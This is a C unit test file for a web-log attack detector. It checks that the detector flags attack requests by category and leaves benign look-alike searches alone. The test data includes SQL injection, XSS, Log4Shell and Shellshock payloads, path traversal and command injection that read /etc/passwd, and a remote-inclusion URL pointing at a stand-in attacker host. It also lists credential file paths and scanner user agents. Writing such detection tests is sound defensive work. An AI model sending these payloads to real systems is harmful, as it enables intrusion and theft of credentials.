/*
 * test_detect.c — mr_detect on the examples the issue names: each attack
 * is found with its category, each benign text that fools a keyword grep
 * is not; plus the API contract (max, one hit per category, evidence
 * bounded, names of categories).
 */
#include "common.h"

#include <setjmp.h>
#include <time.h>
#include <cmocka.h>

#include "logscan/detect.h"
#include "logscan/detect_precheck.h"
#include "logscan/detect_rules.h"

typedef struct fixture {
    mr_detector *d;
    mr_detect_scratch *s;
} fixture;

static int setup(void **state)
{
    fixture *f = calloc(1, sizeof *f);
    if (!f || !(f->d = mr_detector_new()) || !(f->s = mr_detect_scratch_new(f->d)))
        return -1;
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    fixture *f = *state;
    if (!f)
        return 0;
    mr_detect_scratch_free(f->s);
    mr_detector_free(f->d);
    free(f);
    return 0;
}

static size_t run(fixture *f, const char *target, const char *ua, mr_hit *hits, size_t max)
{
    mr_http_event ev;
    mr_http_event_clear(&ev);
    ev.target = mr_span_make(target, strlen(target));
    if (ua)
        ev.user_agent = mr_span_make(ua, strlen(ua));
    return mr_detect(f->d, f->s, &ev, hits, max);
}

static bool has(fixture *f, const char *target, const char *ua, mr_category cat)
{
    mr_hit hits[MR_HITS_MAX];
    size_t n = run(f, target, ua, hits, MR_HITS_MAX);
    for (size_t i = 0; i < n; i++)
        if (hits[i].category == cat)
            return true;
    return false;
}

static void expect_hit(fixture *f, const char *target, const char *ua, mr_category cat)
{
    if (!has(f, target, ua, cat))
        fail_msg("%s not detected in %s / %s", mr_category_name(cat), target, ua ? ua : "-");
}

static void expect_clean(fixture *f, const char *target, const char *ua)
{
    mr_hit hits[MR_HITS_MAX];
    size_t n = run(f, target, ua, hits, MR_HITS_MAX);
    if (n != 0)
        fail_msg("false positive %s/%s on %s", mr_category_name(hits[0].category),
                 hits[0].rule, target);
}

static void test_sqli(void **state)
{
    fixture *f = *state;
    expect_hit(f, "/item?id=1%27%20OR%20%271%27%3D%271", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1';waitfor+delay+'0:0:5'--", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=-1+UNION+ALL+SELECT+NULL,NULL--", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1/*!50000UnIoN*/+/*!50000SeLeCt*/+1,2", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1+ORDER+BY+5--", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1+AND+1%3D1", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1%3B+DROP+TABLE+users", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1+and+extractvalue(1,concat(0x7e,version()))", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1%27+and+sleep(5)%23", NULL, MR_CAT_SQLI);
    expect_hit(f, "/", "Mozilla/5.0' or '1'='1", MR_CAT_SQLI);
}

static void test_xss(void **state)
{
    fixture *f = *state;
    expect_hit(f, "/s?q=%3Csvg/onload=alert(1)%3E", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?q=%26lt%3Bscript%26gt%3Balert(1)", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?next=javascript:alert(document.cookie)", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?q=%22+onmouseover%3D%22alert(1)", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?q=%3Cbody+onload%3Dalert(1)%3E", NULL, MR_CAT_XSS);
}

static void test_other_categories(void **state)
{
    fixture *f = *state;
    expect_hit(f, "/dl?file=..%2f..%2f..%2fetc%2fpasswd", NULL, MR_CAT_TRAVERSAL);
    expect_hit(f, "/..%c0%af..%c0%afetc/passwd", NULL, MR_CAT_TRAVERSAL);
    expect_hit(f, "/index.php?page=http://evil.example/shell.txt?", NULL, MR_CAT_RFI);
    expect_hit(f, "/ping?ip=127.0.0.1%3Bcat+/etc/passwd", NULL, MR_CAT_CMDI);
    expect_hit(f, "/ping?ip=%24(whoami)", NULL, MR_CAT_CMDI);
    expect_hit(f, "/", "${${lower:j}ndi:ldap://x.example/a}", MR_CAT_EXPLOIT);
    expect_hit(f, "/", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", MR_CAT_EXPLOIT);
    expect_hit(f, "/cgi-bin/a.cgi", "() { :; }; /bin/bash -c id", MR_CAT_EXPLOIT);
    expect_hit(f, "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1", NULL, MR_CAT_EXPLOIT);
    expect_hit(f, "/index.php?-d+allow_url_include%3d1", NULL, MR_CAT_EXPLOIT);
    expect_hit(f, "/a.action?x=%25%7B(%23_memberAccess%5B'x'%5D%3Dtrue)%7D", NULL, MR_CAT_EXPLOIT);
    static const char *const files[] = {
        "/.env", "/.git/config", "/wp-config.php.bak", "/config.php~", "/.config.php.swp",
        "/.aws/credentials", "/.ssh/id_rsa", "/server-status", "/phpinfo.php", "/.DS_Store",
        "/admin/.htpasswd", "/x/../.env",
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(files); i++)
        expect_hit(f, files[i], NULL, MR_CAT_SENSITIVE_FILE);
    static const char *const agents[] = {
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
        "Nuclei - Open-source project", "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
        "masscan/1.3", "zgrab/0.x", "WPScan v3.8", "gobuster/3.6", "DirBuster-1.0",
        "Acunetix", "Nessus", "OpenVAS", "w3af.org", "WhatWeb/0.5.5",
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(agents); i++)
        expect_hit(f, "/", agents[i], MR_CAT_SCANNER);
}

static void test_benign(void **state)
{
    fixture *f = *state;
    const char *ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                     "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
    static const char *const targets[] = {
        "/products/view?id=123&lang=en", "/search?q=select+a+size", "/search?q=union+station",
        "/search?q=drop-down+menu", "/c?text=%3C3", "/c?text=1+%3C+2", "/c?text=a+%3C+b",
        "/p?name=O%27Brien", "/m?genre=rock+%27n%27+roll", "/s?q=Tom+%26+Jerry",
        "/s?q=javascript%3A+the+good+parts", "/s?q=delete+account", "/.well-known/security.txt",
        "/~alice/", "/s?q=%E6%9D%B1%E4%BA%AC", "/s?q=Gr%C3%B6%C3%9Fe", "/s?q=dog+%26+cat+toys",
        "/api?fields=name|id", "/s?q=alert+settings", "/s?q=onload+event",
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(targets); i++)
        expect_clean(f, targets[i], ua);
}

/* Developers' searches for handlers (issue 21, h31): none is XSS. */
static void test_handler_searches(void **state)
{
    fixture *f = *state;
    static const char *const targets[] = {
        "/search?q=button+onclick=return+confirm(are+you+sure)",
        "/search?q=html+button+onclick%3D%22return+confirm(%27Are+you+sure%3F%27)%22",
        "/search?q=body+onload=window.print()", "/search?q=javascript+onclick=print()",
        "/search?q=html+onclick=fetch(url)", "/search?q=jquery+onclick=function()(event)",
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(targets); i++)
        expect_clean(f, targets[i], NULL);
    expect_hit(f, "/s?q=x+onclick=alert(1)+y", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?q=b+onfocus=%27(confirm)(1)%27+autofocus", NULL, MR_CAT_XSS);
}

/* A commented statement break is code once one call is not a dialog's
 * (issue 21, h31): the dialog's name is a whole word. */
static void test_code_break(void **state)
{
    fixture *f = *state;
    expect_hit(f, "/x?q=%27;exit(md5(1));xalert(1);//", NULL, MR_CAT_CODE_INJECTION);
    expect_hit(f, "/x?q=%27;alert(1);exit(md5(1));//", NULL, MR_CAT_CODE_INJECTION);
    assert_false(has(f, "/x?q=%27;alert(1);//", NULL, MR_CAT_CODE_INJECTION));
    assert_false(has(f, "/x?q=%27;window.confirm(1);//", NULL, MR_CAT_CODE_INJECTION));
    /* a call inside the dialog's arguments is the dialog's */
    assert_false(has(f, "/x?q=%22;alert(String.fromCharCode(88,83,83));//", NULL,
                     MR_CAT_CODE_INJECTION));
}

/* An image's data: URL is judged for script only (issue 21, h31):
 * <svg><circle/></svg> is a picture. */
static void test_image_body(void **state)
{
    fixture *f = *state;
    /* <svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg> */
    expect_clean(f, "/a?img=data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAw"
                    "MC9zdmciPjxjaXJjbGUgcj0iNCIvPjwvc3ZnPg%3D%3D", NULL);
    /* <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/> */
    expect_hit(f, "/a?img=data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAw"
                  "MC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4%3D", NULL, MR_CAT_XSS);
}

static double cpu_seconds(void)
{
    struct timespec t;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* CPU time of rounds of the value unit repeated to 8,000 bytes. */
static double time_value(fixture *f, const char *unit, int rounds)
{
    static char target[8192];
    size_t len = (size_t)snprintf(target, sizeof target, "/s?q=");
    size_t ulen = strlen(unit);
    while (len + ulen < 8000 + 5) {
        memcpy(target + len, unit, ulen);
        len += ulen;
    }
    target[len] = '\0';
    mr_hit hits[MR_HITS_MAX];
    double t0 = cpu_seconds();
    for (int r = 0; r < rounds; r++)
        run(f, target, NULL, hits, MR_HITS_MAX);
    return cpu_seconds() - t0;
}

/* Repeated handlers and quotes cost one pass over the value: against a
 * look-alike of the same length without a handler (a ratio, so the
 * sanitizer builds hold it too); it was 8-18x before the bounds. */
static void test_handler_cost(void **state)
{
    fixture *f = *state;
    static const char *const units[][2] = {
        {"+onload=x", "+unload=x"}, {"%27+onload=x", "%27+unload=x"},
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(units); i++) {
        /* the best of three of each: a neighbour's burst on a shared
         * machine then costs a retry, not a failure */
        double base = 1e9, t = 1e9;
        for (int k = 0; k < 3; k++) {
            double b = time_value(f, units[i][1], 20), v = time_value(f, units[i][0], 20);
            base = b < base ? b : base;
            t = v < t ? v : t;
        }
        print_message("# %s: %.4f s, look-alike %.4f s\n", units[i][0], t, base);
        assert_true(t < 4.0 * base + 0.01);
    }
}

static void test_contract(void **state)
{
    fixture *f = *state;
    mr_hit hits[MR_HITS_MAX];
    /* SQL injection in two parameters: still one sqli hit */
    size_t n = run(f, "/x?a=1+union+select+1,2&b=1+union+select+1,2", "sqlmap/1.7", hits,
                   MR_HITS_MAX);
    assert_int_equal(n, 2);
    assert_int_not_equal(hits[0].category, hits[1].category);
    n = run(f, "/x?a=1+union+select+1,2", "sqlmap/1.7", hits, 1);
    assert_int_equal(n, 1);
    assert_non_null(hits[0].rule);
    assert_true(hits[0].evidence_len <= MR_EVIDENCE_MAX);
    /* evidence is decoded and capped */
    char big[4096];
    int len = snprintf(big, sizeof big, "/x?q=%%3Cscript%%3E");
    memset(big + len, 'a', sizeof big - (size_t)len - 1);
    big[sizeof big - 1] = '\0';
    n = run(f, big, NULL, hits, MR_HITS_MAX);
    assert_int_equal(n, 1);
    assert_int_equal(hits[0].evidence_len, MR_EVIDENCE_MAX);
    assert_memory_equal(hits[0].evidence, "<script>", 8);
    assert_int_equal(run(f, "/x?q=%3Cscript%3E", NULL, hits, 0), 0);
    assert_string_equal(mr_category_name(MR_CAT_SENSITIVE_FILE), "sensitive-file");
    assert_string_equal(mr_category_check_id(MR_CAT_SQLI), "logscan.sqli");
    assert_string_equal(mr_category_name(MR_CAT_CODE_INJECTION), "code-injection");
    assert_string_equal(mr_category_check_id(MR_CAT_CODE_INJECTION), "logscan.code-injection");
    /* evidence is decoded but keeps the sender's case: matching is caseless */
    n = run(f, "/.git/HEAD", NULL, hits, MR_HITS_MAX);
    assert_int_equal(n, 1);
    assert_memory_equal(hits[0].evidence, "/.git/HEAD", 10);
    n = run(f, "/x?id=1%20UNION%20SELECT%20Password%20FROM%20Users--", NULL, hits, MR_HITS_MAX);
    assert_int_equal(n, 1);
    assert_memory_equal(hits[0].evidence, "1 UNION SELECT Password", 23);
    n = run(f, "/x?f=Li4vLi4vRVRDL3Bhc3N3ZA%3D%3D", NULL, hits, MR_HITS_MAX);
    assert_int_equal(n, 1);
    assert_memory_equal(hits[0].evidence, "../../ETC/passwd", 16);
}

/* Burp's probe: a weak command whose argument holds a substitution. */
static void test_cmdi_substitution(void **state)
{
    fixture *f = *state;
    expect_hit(f, "/index.php?ip=test|echo+QWERTY$((12%2B34))&page=2", NULL, MR_CAT_CMDI);
    expect_hit(f, "/x?ip=a%7Cecho%20x%60id%60", NULL, MR_CAT_CMDI);
    expect_clean(f, "/api?fields=name|id&sort=price", NULL);
    expect_hit(f, "/index.php?cmd=uname%20-a", NULL, MR_CAT_CMDI);
    expect_hit(f, "/shell.php?c=whoami+/all", NULL, MR_CAT_CMDI);
    expect_clean(f, "/search?q=curl+cream", NULL);
    expect_clean(f, "/search?q=wget", NULL);
}

/* The literal prefilter against a naive caseless search, on random
 * text over a small alphabet that makes near-misses frequent. */
static bool naive_has(const char *hay, size_t n, const char *lit)
{
    size_t len = strlen(lit);
    for (size_t i = 0; i + len <= n; i++) {
        size_t k = 0;
        while (k < len && (hay[i + k] | (mr_is_alpha((unsigned char)hay[i + k]) ? 0x20 : 0)) ==
                              lit[k])
            k++;
        if (k == len)
            return true;
    }
    return false;
}

static void test_literal_set(void **state)
{
    (void)state;
    static const char *const lits[] = {"union", "etc/", "proc/", "xp_", "://", ".bak",
                                       "order+", "unio"};
    mr_literal_set *set = mr_literal_set_new(lits, MR_ARRAY_LEN(lits));
    assert_non_null(set);
    static const char alphabet[] = "uniOoNETc/pr:_x.bakd+ ";
    uint32_t rng = 12345;
    char hay[64];
    for (int round = 0; round < 20000; round++) {
        rng = rng * 1103515245u + 12345u;
        size_t n = (rng >> 16) % sizeof hay;
        for (size_t i = 0; i < n; i++) {
            rng = rng * 1103515245u + 12345u;
            hay[i] = alphabet[(rng >> 16) % (sizeof alphabet - 1)];
        }
        bool want = false;
        for (size_t k = 0; k < MR_ARRAY_LEN(lits); k++)
            want = want || naive_has(hay, n, lits[k]);
        size_t ends[16];
        bool overflow = false;
        size_t count = mr_literal_ends(set, hay, n, ends, 16, &overflow);
        if (mr_literal_any(set, hay, n) != want || (want != (count > 0 || overflow)))
            fail_msg("literal set disagrees on \"%.*s\"", (int)n, hay);
        for (size_t i = 0; i < count; i++)
            assert_true(ends[i] >= 3 && ends[i] <= n);
    }
    assert_true(mr_literal_any(set, "/ETC/Passwd", 11));
    assert_false(mr_literal_any(set, "/etc", 4));
    assert_null(mr_literal_set_new((const char *const[]){"@@"}, 1));
    assert_null(mr_literal_set_new((const char *const[]){"Union"}, 1));
    mr_literal_set_free(set);
}

/* Benign encodings stay on the fast path; payload pairs leave it. */
static void test_precheck(void **state)
{
    (void)state;
    mr_literal_set *set = mr_target_literals_new();
    assert_non_null(set);
    static const char *const fast[] = {
        "/images/products/2505-1200.webp", "/s?q=%E6%9D%B1%E4%BA%AC&page=2",
        "/s?q=red%20shoes", "/a%2Fb", "/auth?token=dGVzdA%3D%3D&x=1", "/auth?t=dGVzdA%3D",
        "/api/v1/orders?status=open", "/account/orders", "/s?q=a%2Bb",
        /* doubled, trailing and leading '&', a flag before the first '&' */
        "/s?q=shoes&&page=2", "/s?q=shoes&", "/s?&q=shoes", "/list?print&page=2", "/a&b/c",
        /* fewer stray '%' than normalization drops */
        "/s?q=50%+off", "/s?q=100%+cotton+5%+off+3%+tax",
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(fast); i++)
        if (mr_url_suspect(set, fast[i], strlen(fast[i])))
            fail_msg("%s left the fast path", fast[i]);
    static const char *const slow[] = {
        "/a/../b", "/.env", "/x?a=1--", "/x?a=@@version", "/x?-d+allow_url_include",
        "/x?a=b=c", "/x?a=%3D1", "/x?a=%3D%3Dx", "/x?a=%41", "/x?a=%u0041", "/x?a=%27",
        "/x?id=1+order+by+3", "/x?id=1%20ORDER%20BY%203", "/x?q=UNION", "/a%2e%2e/",
        "/x?a=1%3D1&b=2", "/x\x01", "/%c0%ae%c0%ae/",
        /* a segment without '=' after a '&': judged joined to the value */
        "/x?ip=1&&id", "/x?ip=1&id", "/x?a=1&b&c=2", "/x?print&a=1&id", "/x?a=1&&b",
        /* as many stray '%' as normalization drops (sqlmap's percentage) */
        "/c%o%n%s%o%l%e.portal", "/x?q=%S%E%L%E%C%T", "/s?q=100%+cotton+5%+off+3%+tax+1%",
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(slow); i++)
        if (!mr_url_suspect(set, slow[i], strlen(slow[i])))
            fail_msg("%s stayed on the fast path", slow[i]);
    assert_true(mr_agent_suspect("x@@y", 4));
    assert_false(mr_agent_suspect("a@b@c", 5));
    mr_literal_set_free(set);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sqli),
        cmocka_unit_test(test_xss),
        cmocka_unit_test(test_other_categories),
        cmocka_unit_test(test_benign),
        cmocka_unit_test(test_handler_searches),
        cmocka_unit_test(test_handler_cost),
        cmocka_unit_test(test_code_break),
        cmocka_unit_test(test_image_body),
        cmocka_unit_test(test_contract),
        cmocka_unit_test(test_cmdi_substitution),
        cmocka_unit_test(test_literal_set),
        cmocka_unit_test(test_precheck),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
